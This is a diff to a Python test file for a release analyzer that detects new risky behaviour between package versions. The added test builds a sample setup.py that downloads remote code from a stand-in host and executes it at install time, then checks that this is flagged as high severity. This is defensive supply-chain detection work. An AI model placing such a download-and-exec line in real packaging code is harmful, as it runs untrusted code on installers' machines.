@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import io
 from dataclasses import replace
 from typing import Any
 
@@ -9,11 +10,14 @@ import pytest
 from hypothesis import given
 from hypothesis import strategies as st
 
+from analyzer.contents import contents_of
+from analyzer.reader import read_artifact
 from analyzer.releases import FINDING_ID, changes_since, compare_contents
 from analyzer.static.result import Reach, Sink
 from models.canonical import Digest
 from models.contents import Contents, ContentsBaseline
 from models.evidence import Severity
+from tests.analyzer.archives import make_sdist
 
 QUIET = Contents(
     sinks=("call network", "import process"),
@@ -101,3 +105,27 @@ def test_compare_contents__a_release_is_not_new_to_itself(sinks: set[str], hosts
     assert compared.findings == ()
     assert compared.changes is not None
     assert (compared.changes.sinks, compared.changes.hosts) == ((), ())
+
+
+def test_compare_contents__a_setup_py_that_begins_to_download_and_run() -> None:
+    quiet = "from setuptools import setup\nsetup(name='reenact-demo')\n"
+    acts = (
+        "import urllib.request\nfrom setuptools import setup\n"
+        "exec(urllib.request.urlopen('http://stage.reenact.test/x').read())\n"
+        "setup(name='reenact-demo')\n"
+    )
+    older_contents, newer_contents = (read_sdist({"setup.py": text}) for text in (quiet, acts))
+    compared = compare_contents(older(older_contents), newer_contents)
+    (found,) = compared.findings
+    assert (found.severity, found.what) == (Severity.HIGH, "new-sink")
+    assert compared.changes is not None
+    assert "build network" in compared.changes.sinks
+
+
+def read_sdist(files: dict[str, bytes | str]) -> Contents:
+    data = make_sdist(files)
+    name = "reenact_demo-1.0.tar.gz"
+    report = read_artifact(io.BytesIO(data), filename=name, kind="sdist", size_bytes=len(data))
+    contents = contents_of(report)
+    assert contents is not None
+    return contents
